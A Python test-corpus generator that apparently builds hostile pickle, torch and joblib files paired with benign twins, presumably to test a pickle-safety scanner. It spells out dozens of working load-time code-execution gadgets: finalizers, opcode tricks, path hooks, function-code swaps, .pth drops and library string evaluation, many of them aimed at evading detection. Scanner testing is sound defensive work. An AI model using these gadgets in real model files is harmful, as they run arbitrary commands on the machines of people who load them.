"""Pickles and torch files whose harm is a side effect: setters, finalizers, item writes and constructors of real libraries."""
from __future__ import annotations

import gzip
import io
import pickle as pk
import zipfile
import zlib

from assembly import Raw, build, call, dot, glob, model, new, pickle, seq, text, val
from pair import CODE, SHELL

FAMILY = "pickle"


def setitem(obj, key, value) -> Raw:
    return Raw(val(obj) + val(key) + val(value) + b"s")


def append(obj, value) -> Raw:
    return Raw(val(obj) + val(value) + b"a")


def system() -> Raw:
    return glob("posix", "system")


def namespace(**state) -> Raw:
    return build(call(glob("types", "SimpleNamespace")), state)


def zipped(members: dict[str, bytes], how=zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name), data, how)
    return out.getvalue()


def torch_zip(value: Raw, extra: dict[str, bytes] | None = None, how=zipfile.ZIP_STORED) -> bytes:
    """A checkpoint as torch.save lays it out, with `value` as its pickle."""
    return zipped({"archive/data.pkl": pickle(value, 4), "archive/byteorder": b"little", "archive/version": b"3\n", **(extra or {})}, how)


def add(out):
    def put(name, hostile, twin, prove="s.plain", file="model.pkl", why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    # URLopener.__del__ -> cleanup() calls self.__unlink on each of self.__tempfiles: both come from the state (pickle.load).
    put(
        "finalizer_urlopener",
        pickle(model(build(new(glob("urllib.request", "URLopener")), {"_URLopener__tempfiles": [SHELL], "_URLopener__unlink": system(), "tempcache": None}))),
        pickle(model(build(new(glob("argparse", "Namespace")), {"tempfiles": ["cache/a.bin"], "unlink": False, "tempcache": None}))),
        why="pickle.load, then the object's own finalizer",
    )
    # tempfile's closer calls file.close() when it dies; file is any object with a close.
    put(
        "finalizer_tempfile_closer",
        pickle(
            model(
                build(
                    new(glob("tempfile", "_TemporaryFileCloser")),
                    {"file": namespace(close=call(glob("functools", "partial"), system(), SHELL)), "name": "x", "delete": False, "close_called": False},
                )
            )
        ),
        pickle(model(namespace(file=namespace(close=call(glob("functools", "partial"), glob("numpy", "clip"), 0.0)), name="x", delete=False))),
        why="pickle.load, then _TemporaryFileCloser.__del__",
    )
    # shelve.Shelf.__del__ -> close() -> sync() -> self.dict.sync()
    put(
        "finalizer_shelf",
        pickle(
            model(build(new(glob("shelve", "Shelf")), {"dict": namespace(sync=call(glob("functools", "partial"), system(), SHELL), close=glob("builtins", "list")), "writeback": False, "cache": {}}))
        ),
        pickle(model(build(new(glob("collections", "UserDict")), {"data": namespace(sync=True, close=glob("builtins", "list"))}))),
        why="pickle.load, then Shelf.__del__",
    )
    # APPEND on an object that is no list calls its `append`: here an instance attribute.
    put(
        "append_is_a_call",
        pickle(model(append(namespace(append=system(), label="history"), SHELL))),
        pickle(model(append(call(glob("collections", "deque")), "epoch 1"))),
    )
    # ADDITEMS on an object that is no set calls `add` for each item.
    put(
        "additems_is_a_call",
        pickle(model(Raw(namespace(add=system()) + b"(" + text(SHELL) + b"\x90"))),
        pickle(model(Raw(Raw(b"\x8f") + b"(" + text("cat") + text("dog") + b"\x90"))),
    )
    # BUILD twice: the first writes __setstate__ into the instance, the second calls it.
    put(
        "setstate_from_state",
        pickle(model(build(namespace(__setstate__=system()), SHELL))),
        pickle(model(build(namespace(state="ready"), {"label": "touch"}))),
    )
    # A class made by type() whose __setstate__ is a built-in function: it is not bound, so BUILD passes the state alone.
    put(
        "type_with_builtin_setstate",
        pickle(model(build(new(call(glob("builtins", "type"), "Scaler", (), {"__setstate__": system()})), SHELL))),
        pickle(model(build(new(glob("sklearn.preprocessing._data", "StandardScaler")), {"with_mean": True, "with_std": True, "copy": True, "_sklearn_version": "1.9.1"}))),
    )
    # A path hook is called with each new entry of sys.path at the next import: no call opcode at all.
    put(
        "path_hook_and_path",
        pickle(seq(append(glob("sys", "path_hooks"), system()), append(glob("sys", "path"), SHELL), model(glob("sklearn_extensions_ranker", "Ranker")))),
        pickle(seq(append(val(["hooks"]), "before"), append(val(["path"]), "after"), model(glob("collections", "OrderedDict")))),
    )
    # PYTHONBREAKPOINT names what breakpoint() imports and calls.
    put(
        "breakpoint_from_environment",
        pickle(seq(setitem(glob("os", "environ"), "PYTHONBREAKPOINT", "os.system"), model(call(glob("builtins", "breakpoint"), SHELL)))),
        pickle(seq(setitem(call(glob("collections", "OrderedDict")), "PYTHONHASHSEED", "0"), model(call(glob("builtins", "slice"), 3)))),
    )
    # A default of an ordinary function is replaced through BUILD on the function, then the function is called without arguments.
    put(
        "defaults_of_a_function",
        pickle(
            seq(
                build(glob("timeit", "timeit"), (None, {"__defaults__": (CODE, "pass", glob("time", "perf_counter"), 1, None)})),
                model(call(glob("timeit", "timeit"))),
            )
        ),
        pickle(seq(build(new(glob("argparse", "Namespace")), {"defaults": ("pass", 1, None)}), model(call(glob("builtins", "frozenset"))))),
    )
    # The code of one function is put into another that numpy itself calls.
    put(
        "code_of_another_function",
        pickle(
            seq(
                build(glob("textwrap", "dedent"), (None, {"__code__": dot("os", "popen", "__code__"), "__globals": None, "__defaults__": ("r", -1)})),
                seq(
                    setitem(dot("textwrap", "dedent", "__globals__"), "subprocess", glob("os", "sys.modules")),
                    setitem(dot("textwrap", "dedent", "__globals__"), "io", glob("os", "sys")),
                ),
                model(call(glob("textwrap", "dedent"), SHELL)),
            )
        ),
        pickle(seq(build(new(glob("argparse", "Namespace")), {"code": "utf-8"}), model(call(glob("textwrap", "dedent"), "  a classifier of flowers")))),
    )
    # typing.get_type_hints evaluates the strings in any object's __annotations__.
    put(
        "type_hints_are_evaluated",
        pickle(model(call(glob("typing", "get_type_hints"), namespace(__annotations__={"x": CODE})))),
        pickle(model(namespace(annotations={"x": "float32", "y": "int64"}))),
    )
    # ConvertingList resolves ext:// strings of logging's configuration at item access; the result is then called by a trusted library.
    put(
        "converting_list_resolves",
        pickle(
            model(
                call(
                    glob("pandas.core.common", "apply_if_callable"),
                    call(
                        glob("operator", "getitem"),
                        build(call(glob("logging.config", "ConvertingList"), ["ext://os.system"]), {"configurator": call(glob("logging.config", "BaseConfigurator"), {})}),
                        0,
                    ),
                    SHELL,
                )
            )
        ),
        pickle(model(call(glob("operator", "getitem"), call(glob("builtins", "list"), ["ext://sys.stdout"]), 0))),
    )
    # Mailcap's test field is a shell command (Python up to 3.12).
    put(
        "mailcap_test_field",
        pickle(model(call(glob("mailcap", "findmatch"), {"image/png": [{"view": "see %s", "test": SHELL}]}, "image/png"))),
        pickle(model({"image/png": [{"view": "see %s", "test": "touch"}]})),
        why="pickle.load in Python 3.8 to 3.12",
    )
    # site.addsitedir runs the import lines of .pth files: the weights' own ending.
    put(
        "pth_file_is_a_site_file",
        {"model.pkl": pickle(model(call(glob("site", "addsitedir"), "."))), "weights.pth": f"import os; os.system('{SHELL}')\n"},
        {"model.pkl": pickle(model(call(glob("pathlib", "PosixPath"), "."))), "weights.pth": torch_zip(val({"a": [1.0, 2.0]}))},
    )
    # zipimport of the checkpoint itself: the zip that torch reads holds a module too.
    put(
        "checkpoint_is_a_zip_module",
        {"model.pt": torch_zip(model(call(dot("zipimport", "zipimporter.load_module"), call(glob("zipimport", "zipimporter"), "model.pt/archive"), "layers")), {"archive/layers.py": CODE.encode()})},
        {"model.pt": torch_zip(model(call(glob("collections", "OrderedDict"))), {"archive/.format_version": b"1", "archive/.data/serialization_id": b"0011223344556677"})},
        "s.torch",
        why="torch.load(weights_only=False)",
    )
    # scipy's distributions write argument parsers as source and execute it in __setstate__: the source is in the state.
    put(
        "scipy_distribution_state",
        pickle(model(build(new(glob("scipy.stats._continuous_distns", "norm_gen")), {"_parse_arg_template": CODE, "shapes": None, "name": "norm", "numargs": 0}))),
        scipy_twin(),
    )
    # stable-baselines3's wrapper decodes its state with cloudpickle.
    inner = pk.dumps({"gamma": 0.99}, 4)
    put(
        "cloudpickle_wrapper_state",
        pickle(model(build(new(glob("stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper")), pickle(call(system(), SHELL))))),
        pickle(model(build(new(glob("stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper")), inner))),
    )
    # torch's config modules restore themselves from pickled bytes.
    put(
        "inductor_config_bytes",
        pickle(model(call(glob("torch._inductor.config", "load_config"), pickle(call(system(), SHELL))))),
        pickle(model(call(glob("collections", "OrderedDict"), [("inductor_config", pk.dumps({"max_autotune": True}))]))),
    )
    # The rebuild helper of tensor subclasses calls the function that it is given.
    put(
        "rebuild_from_type_calls",
        torch_zip(model(call(glob("torch._tensor", "_rebuild_from_type_v2"), glob("torch.fx.graph_module", "_exec_with_source"), glob("torch", "Tensor"), (CODE, {}), {}))),
        torch_subclass(),
        "s.torch",
        "model.pt",
    )
    # An instance attribute shadows the module's eval(), which each user calls after torch.load.
    put("module_eval_shadowed", hooked(True), hooked(False), "s.torch_use", "model.pt")
    # joblib's batch calls what it holds.
    put(
        "joblib_batch",
        pickle(model(call(call(glob("joblib.parallel", "BatchedCalls"), [(system(), (SHELL,), {})], "sequential")))),
        pickle(model(call(glob("joblib.memory", "Memory"), "cache"))),
        "joblib",
        "model.joblib",
    )
    # A default factory is called by a format string, through a table that the library keeps.
    put(
        "format_map_default_factory",
        pickle(model(call(dot("builtins", "str.format_map"), "{score}", call(glob("collections", "defaultdict"), call(glob("functools", "partial"), system(), SHELL))))),
        pickle(model(call(dot("builtins", "str.format_map"), "{score}", setitem(call(glob("collections", "defaultdict"), glob("builtins", "float")), "score", 0.5)))),
    )
    # sympy evaluates strings that its constructors get.
    put(
        "sympy_poly_string",
        pickle(model(call(glob("sympy.polys.polytools", "Poly"), CODE + ".close()"))),
        pickle(model(call(glob("sympy.core.symbol", "Symbol"), "x"))),
    )
    # patsy's environment evaluates a factor's code; the model keeps it for predictions.
    put(
        "patsy_design",
        pickle(model(call(glob("patsy.highlevel", "dmatrix"), f"I({CODE})", {"x": [1.0, 2.0]}))),
        pickle(model({"formula": "I(x ** 2)", "data": {"x": [1.0, 2.0]}})),
    )
    # numpy writes any text to any path: a header before an empty table.
    put(
        "numpy_savetxt_drops_a_file",
        pickle(model(call(glob("numpy", "savetxt"), "marker.pth", [], "%s", " ", "\n", "import os; os.system('id')", "", ""))),
        pickle(model(call(glob("numpy", "array"), [1.0, 2.0]))),
        why="a .pth in a site folder runs at the next start of Python; here it lands beside the model",
    )
    # spawn's preparation runs the main script that it is told.
    put(
        "multiprocessing_prepare",
        {
            "model.pkl": pickle(model(call(glob("multiprocessing.spawn", "prepare"), {"init_main_from_path": "labels.txt"}))),
            "labels.txt": CODE + "\n",
        },
        {"model.pkl": pickle(model({"init_main_from_path": "labels.txt"})), "labels.txt": "cat\ndog\n"},
    )
    # copyreg's rebuild calls base.__init__ with the state.
    put(
        "reconstructor_init",
        pickle(model(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"), ["touch", "marker"]))),
        pickle(model(call(glob("copyreg", "_reconstructor"), glob("collections", "Counter"), glob("builtins", "dict"), {"a": 1}))),
    )
    # A gzip of two members: pandas and gzip read both, a reader of the first sees half a pickle.
    bad, good = pickle(model(call(system(), SHELL)), 4), pickle(model(["a", "b", "c", "d", "e"]), 4)
    put("gzip_of_two_members", gzip.compress(bad[:40]) + gzip.compress(bad[40:]), gzip.compress(good[:40]) + gzip.compress(good[40:]), "pandas", "model.pkl.gz")
    # Members of a torch zip may be deflated: torch inflates them.
    put(
        "deflated_torch_members",
        torch_zip(model(call(glob("webbrowser", "os.system"), SHELL)), how=zipfile.ZIP_DEFLATED),
        torch_zip(model(call(glob("collections", "OrderedDict"))), how=zipfile.ZIP_DEFLATED),
        "s.torch",
        "model.pt",
    )
    # A distributed checkpoint keeps a plain pickle called .metadata.
    put(
        "distributed_metadata",
        {".metadata": pickle(call(glob("copy", "_reconstruct"), None, None, system(), (SHELL,))), "__0_0.distcp": b"\0" * 64},
        {".metadata": dcp_metadata(), "__0_0.distcp": b"\0" * 64},
        "s.dcp",
        why="torch.distributed.checkpoint.FileSystemReader.read_metadata",
    )
    # A weak reference's finalizer runs when its object is dropped, during the load.
    put(
        "weakref_finalize",
        pickle(model(seq(call(glob("weakref", "finalize"), call(glob("collections", "OrderedDict")), system(), SHELL), "done"))),
        pickle(model(seq(call(glob("collections", "OrderedDict")), "done"))),
    )
    # A pickle in a numpy object array that is packed into zlib for joblib.
    put(
        "zlib_joblib_browser",
        zlib.compress(pickle(seq(setitem(glob("os", "environ"), "BROWSER", "touch %s"), model(call(glob("webbrowser", "open"), "marker"))))),
        zlib.compress(pickle(seq(setitem(val({"a": "b"}), "BROWSER", "none"), model(call(glob("collections", "OrderedDict")))))),
        "joblib",
        "model.joblib",
    )
    # pandas' `pipe` calls its second argument with the first; the function is an alias inside another module.
    put(
        "pandas_pipe_alias",
        pickle(
            model(
                call(
                    glob("pandas.core.common", "pipe"),
                    SHELL,
                    call(call(glob("operator", "attrgetter"), "_os.system"), call(glob("operator", "getitem"), glob("sys", "modules"), "tempfile")),
                )
            )
        ),
        pickle(model(call(glob("pandas", "Index"), ["a", "b"]))),
    )


def scipy_twin() -> bytes:
    import scipy.stats

    return pk.dumps({"prior": scipy.stats.norm(0, 2), "name": "classifier"}, 4)


def torch_subclass() -> bytes:
    import torch

    out = io.BytesIO()
    torch.save({"w": torch.nn.Parameter(torch.ones(2, 2)), "b": torch.nn.Buffer(torch.zeros(2))}, out)
    return out.getvalue()


def hooked(hostile: bool) -> bytes:
    import functools
    import posix

    import torch

    layer = torch.nn.Linear(4, 2)
    if hostile:
        layer.__dict__["eval"] = functools.partial(posix.system, SHELL)
    else:
        torch.nn.utils.spectral_norm(layer)
    out = io.BytesIO()
    torch.save(layer, out)
    return out.getvalue()


def dcp_metadata() -> bytes:
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata

    return pk.dumps(Metadata(state_dict_metadata={"step": BytesStorageMetadata()}, planner_data={"step": ("step",)}, storage_data={}))
